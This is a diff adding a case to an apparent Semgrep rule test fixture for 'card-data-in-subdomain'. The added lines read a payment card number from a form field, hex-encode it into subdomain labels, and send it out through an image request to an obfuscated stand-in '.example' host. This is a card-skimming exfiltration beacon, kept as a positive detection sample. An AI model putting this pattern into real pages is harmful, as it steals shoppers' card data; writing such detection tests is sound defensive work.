@@ -32,3 +32,13 @@ var region = window.siteConfig.region;
 // ok: card-data-in-subdomain
 fetch('https://' + region + '.api.shipping-rates.example.com/v1/quote', { method: 'POST',
   body: JSON.stringify({ zip: document.getElementById('postcode').value }) });
+
+// ---
+// A staging drop host under a name reserved for testing (RFC 2606 `.example`, RFC 6761 `.test`),
+// labels joined from hex chunks.
+var card = document.getElementById('cc-number').value, hx = '';
+for (var j = 0; j < card.length; j++) { hx += card.charCodeAt(j).toString(16); }
+var tail = ['dns', 'cdn', 'metrics'].join('-') + '.ex' + 'ample';
+var img = document.createElement('img');
+// ruleid: card-data-in-subdomain
+img.setAttribute('src', '//' + hx.match(/.{1,30}/g).join('.') + '.' + tail + '/t.gif');
